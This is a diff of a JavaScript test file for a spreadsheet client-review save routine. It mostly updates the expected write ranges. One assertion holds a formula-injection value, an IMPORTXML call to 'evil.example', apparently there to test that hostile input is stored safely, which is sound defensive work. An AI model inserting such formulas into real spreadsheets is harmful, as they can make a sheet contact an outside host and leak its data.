@@ -132,7 +132,7 @@ describe('saveClientReview', () => {
     expect(byMethod['Lock.waitLock']).toBe(1);
     expect(byMethod['Lock.releaseLock']).toBe(1);
     const writes = wb.writes().filter((w) => w.call === 'Range.setValues');
-    expect(writes.map((w) => w.target)).toEqual(['Clients!A14:O14', 'Monitoring!A5:W5']);
+    expect(writes.map((w) => w.target)).toEqual(['Clients!A14:P14', 'Monitoring!A5:W5']);
     for (const w of writes) expect(w.locks).toContain('document');
     expect(wb.formulas('Clients', '2:2')).toEqual(formulas);
     expect(rowOf(wb, 'Clients', clients, 14).name).toBe('=IMPORTXML("http://evil.example"; "//a")');
@@ -163,7 +163,8 @@ describe('saveClientReview', () => {
     const writes = wb
       .writes()
       .filter((w) => w.call === 'Range.setValues' && w.target.startsWith('Клиенты!A2'));
-    expect(writes.map((w) => w.target)).toEqual(['Клиенты!A2:J2']);
+    // Name to priceAnswer, then Last contact (the review is a contact), up to the computed Segment.
+    expect(writes.map((w) => w.target)).toEqual(['Клиенты!A2:K2']);
     const c = rowOf(wb, 'Клиенты', clients, 2);
     expect(c.phone).toBe('+7 999 123-45-67');
     expect(c.nextContact).toEqual(new Date(2026, 11, 3));
